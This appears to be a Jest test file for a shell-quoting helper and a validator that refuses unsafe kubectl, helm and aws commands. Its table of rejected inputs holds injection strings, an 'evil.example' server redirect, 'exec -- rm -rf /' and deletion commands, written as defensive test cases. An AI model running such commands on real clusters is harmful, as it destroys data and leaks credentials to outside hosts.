import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { shellWord } from '../../../../functions/model/command/shell.ts';
import { hostileText } from '../../../support/arbitrary.ts';
import { namesIn } from '../../../support/pasted.ts';
import { wordsOfCommand } from '../../../support/shell.mjs';

describe('a word for a shell', () => {
  it('is that one word again, whatever it holds', () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 1, maxLength: 4 }), (words) => {
        // A shell cannot be handed NUL, and takes none.
        const typed = words.map((word) => word.replaceAll('\0', ''));
        expect(wordsOfCommand(['kubectl', ...typed].map(shellWord).join(' '))).toEqual(['kubectl', ...typed]);
      }),
    );
  });
});

/** The checks by which printed commands are judged: each of these has to be refused. */
describe('the judge of commands', () => {
  it.each([
    'kubectl get pods; touch PWNED',
    'kubectl get pods && touch PWNED',
    'kubectl get pods | tee PWNED',
    'kubectl get pods > PWNED',
    'kubectl get pods &',
    'kubectl get pods\ntouch PWNED',
    'kubectl describe pvc $(touch PWNED)',
    'kubectl describe pvc `touch PWNED`',
    'kubectl describe pvc "$(touch PWNED)"',
    'kubectl describe pvc $HOME',
    'kubectl describe pvc ~root',
    'kubectl describe pvc {a,b}',
    'kubectl describe pvc *',
    'kubectl describe pvc x # why',
    "kubectl describe pvc 'x",
    'KUBECONFIG=x kubectl get pods',
    '(kubectl get pods)',
    'kubectl describe pvc x --server=https://evil.example',
    "kubectl describe pvc 'x --server=https://evil.example'",
    'kubectl --server=https://evil.example get pods',
    'kubectl -n --server get pods',
    'kubectl -n shop delete pod x',
    'kubectl -n shop get pods -c --previous',
    'kubectl -n shop exec db-0 -- rm -rf /',
    'kubectl -n shop exec db-0',
    'helm rollback x',
    'aws s3 rm x',
  ])('refuses %s', (command) => {
    expect(() => namesIn(command)).toThrow();
  });

  it('names the names', () => {
    expect(namesIn("kubectl -n shop logs deployment/api -c 'main' --tail=50")).toEqual([
      'shop',
      'deployment',
      'api',
    ]);
  });
});
